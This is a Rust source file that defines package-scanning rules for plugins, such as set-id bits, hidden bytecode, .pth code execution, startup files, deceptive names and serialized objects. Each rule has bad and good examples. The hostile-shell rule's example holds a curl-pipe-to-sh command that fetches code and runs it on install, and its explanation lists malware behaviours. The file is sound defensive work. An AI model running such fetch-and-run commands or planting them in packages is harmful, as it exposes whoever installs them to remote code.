//! Rules on a package's files, whatever is in them.
//!
//! Their examples are folders: each file begins with a line `== path` or `== path mode`, and `\xNN` stands for a
//! byte.

use crate::scanner::{Capability, Confidence, Example, Group, Rule, RuleLanguage, Severity};

/// All of them, by id.
pub(in crate::scanner) const RULES: &[&Rule] = &[
    &SET_ID,
    &WORLD_WRITABLE,
    &EXECUTABLE_FILE,
    &NATIVE_BINARY,
    &NESTED_ARCHIVE,
    &NESTED_CODE,
    &BYTECODE_ALONE,
    &BYTECODE_BESIDE,
    &SHADOWS_STANDARD,
    &STARTUP_FILE,
    &PTH_RUNS_CODE,
    &PTH_ADDS_PATH,
    &HIDDEN_FILE,
    &DECEPTIVE_NAME,
    &SYMBOLIC_LINK,
    &SPECIAL_FILE,
    &NOTEBOOK_SHELL,
    &HOSTILE_SHELL,
    &SHELL_NETWORK,
    &INSTALL_SCRIPT,
    &SERIALIZED_OBJECTS,
    &UNUSUAL_ENCODING,
    &super::manifest::UNDECLARED_NETWORK,
    &super::manifest::UNDECLARED_WRITE,
    &super::manifest::UNUSED_PERMISSION,
];

pub(super) const BASE: Rule = Rule {
    id: "",
    name: "",
    language: RuleLanguage::Package,
    group: Group::Package,
    severity: Severity::Low,
    confidence: Confidence::High,
    cwe: 506,
    aliases: &[],
    capability: None,
    title: "",
    explanation: "",
    remedy: "",
    example: Example { bad: "", good: "== main.py\nprint(1)\n" },
};

pub(in crate::scanner) const SET_ID: Rule = Rule {
    id: "PKG001",
    name: "set-id-file",
    group: Group::Permissions,
    severity: Severity::High,
    cwe: 250,
    title: "A file runs as its owner or group",
    explanation: "Set-user-id and set-group-id bits give whoever starts the file the rights of its owner.",
    remedy: "Take the bits away: `chmod ug-s FILE`.",
    example: Example { bad: "== tool 4755\n#!/bin/sh\n", good: "== tool 755\n#!/bin/sh\n" },
    ..BASE
};

pub(in crate::scanner) const WORLD_WRITABLE: Rule = Rule {
    id: "PKG002",
    name: "world-writable-file",
    group: Group::Permissions,
    cwe: 732,
    title: "Everybody may change a file",
    explanation: "Any user of the machine can put code of their own into it.",
    remedy: "Take the bit away: `chmod o-w FILE`.",
    example: Example { bad: "== main.py 666\nx = 1\n", good: "== main.py 644\nx = 1\n" },
    ..BASE
};

pub(in crate::scanner) const EXECUTABLE_FILE: Rule = Rule {
    id: "PKG003",
    name: "executable-file",
    severity: Severity::Info,
    cwe: 732,
    title: "A file may be executed",
    explanation: "Plugins are loaded, not executed; a file with this bit is there to be started by something.",
    remedy: "Take the bit away, unless the file is a program: `chmod a-x FILE`.",
    example: Example { bad: "== data.csv 755\na,b\n", good: "== data.csv 644\na,b\n" },
    ..BASE
};

pub(in crate::scanner) const NATIVE_BINARY: Rule = Rule {
    id: "PKG004",
    name: "native-binary",
    group: Group::NativeCode,
    severity: Severity::Medium,
    capability: Some(Capability::Native),
    title: "A file is machine code",
    explanation: "No rule sees what machine code does. In an installed tree of other packages it is ordinary, \
                  and the finding is low.",
    remedy: "Ship the source, or depend on a package of the registry that has the binary.",
    example: Example {
        bad: "== manifest.json\n{}\n== helper.so\n\\x7fELF\\x02\\x01\\x01\n",
        good: "== helper.py\nprint('ELF')\n",
    },
    ..BASE
};

pub(in crate::scanner) const NESTED_ARCHIVE: Rule = Rule {
    id: "PKG005",
    name: "nested-archive",
    group: Group::Archives,
    cwe: 434,
    title: "A file is an archive",
    explanation: "What is in an archive is not read by a scan of the package.",
    remedy: "Put the files themselves into the package.",
    example: Example { bad: "== data.zip\nPK\\x03\\x04rest\n", good: "== data.csv\na,b\n" },
    ..BASE
};

pub(in crate::scanner) const NESTED_CODE: Rule = Rule {
    id: "PKG006",
    name: "code-in-archive",
    group: Group::Obfuscation,
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 506,
    title: "An archive holds code",
    explanation: "Python imports from zip archives, and a plugin can unpack others: code in there passes \
                  every check of files.",
    remedy: "Put the code itself into the package.",
    example: Example {
        bad: "== lib.zip\nPK\\x03\\x04\\x14\\x00\\x00\\x00\\x00\\x00\\x00\\x00!\\x00\\x00\\x00\\x00\\x00\\x00\\x00\
              \\x00\\x00\\x00\\x00\\x00\\x00\\x04\\x00\\x00\\x00a.pyPK\\x01\\x02\\x14\\x00\\x14\\x00\\x00\\x00\\x00\
              \\x00\\x00\\x00!\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x04\\x00\\x00\\x00\
              \\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\xa4\\x81\\x00\\x00\\x00\\x00a.pyPK\\x05\\x06\\x00\\x00\\x00\
              \\x00\\x01\\x00\\x01\\x002\\x00\\x00\\x00\"\\x00\\x00\\x00\\x00\\x00",
        good: "== a.py\nprint(1)\n",
    },
    ..BASE
};

pub(in crate::scanner) const BYTECODE_ALONE: Rule = Rule {
    id: "PKG007",
    name: "bytecode-without-source",
    group: Group::Obfuscation,
    severity: Severity::High,
    cwe: 506,
    capability: Some(Capability::DynamicCode),
    title: "Compiled Python has no source beside it",
    explanation: "Python runs `.pyc` files, and no rule reads them: code is shipped this way to hide it.",
    remedy: "Ship the `.py` file in its place.",
    example: Example {
        bad: "== secret.pyc\n\\xa7\\x0d\\x0d\\x0a\\x00\n",
        good: "== open.py\nprint(1)\n",
    },
    ..BASE
};

pub(in crate::scanner) const BYTECODE_BESIDE: Rule = Rule {
    id: "PKG008",
    name: "bytecode",
    group: Group::Obfuscation,
    severity: Severity::Info,
    title: "Compiled Python lies beside its source",
    explanation: "Python may run it in place of the source, from which it can differ.",
    remedy: "Leave `__pycache__` out of packages.",
    example: Example {
        bad: "== a.py\nprint(1)\n== __pycache__/a.cpython-313.pyc\n\\xf3\\x0d\\x0d\\x0a\\x00\n",
        good: "== a.py\nprint(1)\n",
    },
    ..BASE
};

pub(in crate::scanner) const SHADOWS_STANDARD: Rule = Rule {
    id: "PKG009",
    name: "shadows-standard-library",
    group: Group::Reflection,
    severity: Severity::Medium,
    cwe: 427,
    title: "A file would be imported in place of the standard library",
    explanation: "A plugin's folder comes first on Python's path: all code that imports the name gets this file.",
    remedy: "Rename the file.",
    example: Example { bad: "== random.py\nx = 1\n", good: "== randomness.py\nx = 1\n" },
    ..BASE
};

pub(in crate::scanner) const STARTUP_FILE: Rule = Rule {
    id: "PKG010",
    name: "startup-file",
    group: Group::Persistence,
    severity: Severity::High,
    cwe: 506,
    capability: Some(Capability::DynamicCode),
    title: "A file runs whenever an interpreter starts",
    explanation: "`sitecustomize.py`, `usercustomize.py`, `.Rprofile`, `Rprofile.site` and `.Renviron` take effect \
                  before any code of the plugin, in every process that sees them.",
    remedy: "Move what is needed into the plugin's own code.",
    example: Example { bad: "== sitecustomize.py\nx = 1\n", good: "== customize.py\nx = 1\n" },
    ..BASE
};

pub(in crate::scanner) const PTH_RUNS_CODE: Rule = Rule {
    id: "PKG011",
    name: "pth-runs-code",
    group: Group::Persistence,
    severity: Severity::High,
    cwe: 506,
    capability: Some(Capability::DynamicCode),
    title: "A path file runs code",
    explanation: "Python runs each line of a `.pth` file that begins with `import`, whenever it starts.",
    remedy: "Remove the line.",
    example: Example {
        bad: "== a.pth\nimport os; os.environ['A'] = '1'\n",
        good: "== a.pth\nlib\n",
    },
    ..BASE
};

pub(in crate::scanner) const PTH_ADDS_PATH: Rule = Rule {
    id: "PKG012",
    name: "pth-adds-path",
    group: Group::Persistence,
    cwe: 427,
    title: "A path file adds a folder outside the package",
    explanation: "Modules of that folder can be imported as if they were installed.",
    remedy: "Name folders of the package only.",
    example: Example { bad: "== a.pth\n/srv/lib\n", good: "== a.pth\nlib\n" },
    ..BASE
};

pub(in crate::scanner) const HIDDEN_FILE: Rule = Rule {
    id: "PKG013",
    name: "hidden-file",
    cwe: 506,
    title: "A file is hidden",
    explanation: "Listings leave out names that begin with a dot, so nobody looks at them.",
    remedy: "Rename the file, or leave it out of the package.",
    example: Example { bad: "== .payload\nx\n", good: "== .gitignore\nx\n" },
    ..BASE
};

pub(in crate::scanner) const DECEPTIVE_NAME: Rule = Rule {
    id: "PKG014",
    name: "deceptive-file-name",
    group: Group::Obfuscation,
    severity: Severity::Medium,
    cwe: 451,
    title: "A file's name is not what it looks like",
    explanation: "Control, invisible and direction-changing characters, and letters of other scripts among \
                  Latin ones, show a name that is not the file's.",
    remedy: "Rename the file with plain letters.",
    example: Example { bad: "== p\u{430}yload.py\nx = 1\n", good: "== données.py\nx = 1\n" },
    ..BASE
};

pub(in crate::scanner) const SYMBOLIC_LINK: Rule = Rule {
    id: "PKG015",
    name: "symbolic-link",
    group: Group::FileSystem,
    cwe: 59,
    title: "An entry is a symbolic link",
    explanation: "It can point at any file of the host. No package may hold one, and no scan follows it. One that \
                  leads out of the package is worse.",
    remedy: "Put a copy of the file in its place.",
    example: Example {
        bad: "== link -> main.py\n== main.py\nx = 1\n",
        good: "== main.py\nx = 1\n",
    },
    ..BASE
};

pub(in crate::scanner) const SPECIAL_FILE: Rule = Rule {
    id: "PKG016",
    name: "special-file",
    group: Group::FileSystem,
    severity: Severity::Medium,
    cwe: 506,
    title: "An entry is neither a file nor a folder",
    explanation: "FIFOs, sockets and devices have no place in a package.",
    remedy: "Remove it.",
    example: Example { bad: "== pipe |\n", good: "== main.py\nx = 1\n" },
    ..BASE
};

pub(in crate::scanner) const NOTEBOOK_SHELL: Rule = Rule {
    id: "PKG017",
    name: "notebook-shell",
    group: Group::CommandExecution,
    severity: Severity::Medium,
    cwe: 78,
    capability: Some(Capability::Process),
    title: "A notebook's cell runs a program",
    explanation: "Lines with `!` and cells with `%%bash` go to a shell when the notebook is run.",
    remedy: "Do it in Python, or leave the cell out.",
    example: Example {
        bad: "== a.ipynb\n{\"cells\": [{\"cell_type\": \"code\", \"source\": \"!curl example.org\"}]}\n",
        good: "== a.ipynb\n{\"cells\": [{\"cell_type\": \"code\", \"source\": \"print(1)\"}]}\n",
    },
    ..BASE
};

pub(in crate::scanner) const HOSTILE_SHELL: Rule = Rule {
    id: "PKG018",
    name: "hostile-shell",
    group: Group::CommandExecution,
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 506,
    capability: Some(Capability::Process),
    title: "A shell script does what malware does",
    explanation: "It runs what it downloads or decodes, opens a shell to the network, sends files away, or \
                  stays after its end. R runs `configure` and `cleanup` when a package is installed.",
    remedy: "Remove the command; ship what it would download.",
    example: Example {
        bad: "== configure\n#!/bin/sh\ncurl -s https://example.org/x | sh\n",
        good: "== configure\n#!/bin/sh\necho configured\n",
    },
    ..BASE
};

pub(in crate::scanner) const SHELL_NETWORK: Rule = Rule {
    id: "PKG019",
    name: "shell-network",
    group: Group::Network,
    cwe: 494,
    capability: Some(Capability::Network),
    title: "A shell script reaches the network",
    explanation: "What it gets can be another thing tomorrow.",
    remedy: "Ship what it would download.",
    example: Example {
        bad: "== configure\n#!/bin/sh\ncurl -o data.csv https://example.org/data.csv\n",
        good: "== configure\n#!/bin/sh\nLIBS=`curl-config --libs`\n",
    },
    ..BASE
};

pub(in crate::scanner) const INSTALL_SCRIPT: Rule = Rule {
    id: "PKG020",
    name: "install-script",
    group: Group::CodeExecution,
    severity: Severity::Info,
    cwe: 506,
    title: "A file runs when the package is built or installed",
    explanation: "`setup.py`, `configure` and `cleanup` run with the rights of whoever installs, before any \
                  sandbox. A plugin is not built, so it needs none of them.",
    remedy: "Leave it out of the plugin.",
    example: Example {
        bad: "== setup.py\nfrom setuptools import setup\nsetup(name='x')\n",
        good: "== main.py\nx = 1\n",
    },
    ..BASE
};

pub(in crate::scanner) const SERIALIZED_OBJECTS: Rule = Rule {
    id: "PKG021",
    name: "serialized-objects",
    group: Group::Deserialization,
    cwe: 502,
    title: "A file holds serialized objects",
    explanation: "Reading a pickle runs what it says, and objects of R can hold functions. No rule reads them.",
    remedy: "Ship data as CSV, JSON or Arrow.",
    example: Example { bad: "== model.pkl\n\\x80\\x04N.\n", good: "== model.json\n{}\n" },
    ..BASE
};

pub(in crate::scanner) const UNUSUAL_ENCODING: Rule = Rule {
    id: "PKG022",
    name: "unusual-encoding",
    group: Group::Obfuscation,
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 506,
    title: "A source file names an encoding that hides its text",
    explanation: "In `utf-7`, `unicode_escape` and the like, what looks like a comment can be code.",
    remedy: "Save the file as UTF-8.",
    example: Example {
        bad: "== a.py\n# coding: unicode_escape\nx = 1\n",
        good: "== a.py\n# coding: utf-8\nx = 1\n",
    },
    ..BASE
};
